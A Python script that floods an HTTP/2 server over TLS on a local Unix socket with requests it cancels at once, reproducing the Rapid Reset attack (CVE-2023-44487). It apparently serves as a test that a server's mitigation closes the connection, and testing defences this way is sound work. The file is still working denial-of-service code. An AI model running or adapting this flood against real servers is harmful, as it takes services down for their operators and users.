#!/usr/bin/env python3
"""Floods an HTTP/2 server with requests that it resets at once (CVE-2023-44487).

rapid_reset.py SOCKET CA PATH COUNT: over TLS to a Unix domain socket, COUNT requests for PATH, each
one HEADERS and one RST_STREAM. Prints how many it sent before the server closed the connection; exit
status 0 when the server closed it, 1 when it accepted them all.
"""
import socket
import ssl
import struct
import sys

HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 1, 3, 4, 6, 7
END_STREAM_AND_HEADERS, ACK = 5, 1
CANCEL = 8
BATCH = 50  # requests in one write
TIMEOUT = 20  # seconds


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header field outside the peer's dynamic table: every request can use the same block."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def connect(path, ca):
    tls = ssl.create_default_context(cafile=ca)
    tls.set_alpn_protocols(["h2"])
    plain = socket.socket(socket.AF_UNIX)
    plain.settimeout(TIMEOUT)
    plain.connect(path)
    connection = tls.wrap_socket(plain, server_hostname="localhost")
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    return connection


def frames(data):
    """The whole frames at the start of `data`, as (kind, flags, payload)."""
    while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
        size = int.from_bytes(data[:3], "big")
        yield data[3], data[4], bytes(data[9 : 9 + size])
        del data[: 9 + size]


class Flood:
    def __init__(self, connection, path):
        fields = (b":method", b"POST"), (b":scheme", b"https"), (b":path", path.encode()), (
            b":authority", b"localhost"), (b"te", b"trailers"), (b"content-type", b"application/grpc")
        self.block = b"".join(literal(*field) for field in fields)
        self.connection = connection
        self.unread = bytearray()
        self.sent = 0
        self.said_goaway = False

    def send_batch(self):
        out = bytearray()
        for _ in range(BATCH):
            stream = 2 * self.sent + 1
            out += frame(HEADERS, END_STREAM_AND_HEADERS, stream, self.block)
            out += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            self.sent += 1
        self.connection.sendall(out)

    def listen(self, wait):
        """Reads what has come; raises when the connection is closed."""
        self.connection.settimeout(wait)
        try:
            data = self.connection.recv(65536)
        except (BlockingIOError, TimeoutError, ssl.SSLWantReadError):
            return
        finally:
            self.connection.settimeout(TIMEOUT)
        if not data:
            raise ConnectionResetError
        self.unread += data
        for kind, flags, payload in frames(self.unread):
            if kind == GOAWAY:
                self.said_goaway = True
            if kind in (SETTINGS, PING) and not flags & ACK:
                self.connection.sendall(frame(kind, ACK, 0, b"" if kind == SETTINGS else payload))


def main():
    path, ca, method, count = sys.argv[1:]
    flood = Flood(connect(path, ca), method)
    flood.listen(TIMEOUT)
    cut = False
    try:
        while flood.sent < int(count):
            flood.send_batch()
            flood.listen(0)
        for _ in range(20):  # what it still has to say
            flood.listen(0.1)
    except (ConnectionError, ssl.SSLEOFError, ssl.SSLZeroReturnError):
        cut = True
    cut = cut or flood.said_goaway
    print(f"{flood.sent} requests, {'cut' if cut else 'all taken'}")
    return 0 if cut else 1


if __name__ == "__main__":
    sys.exit(main())
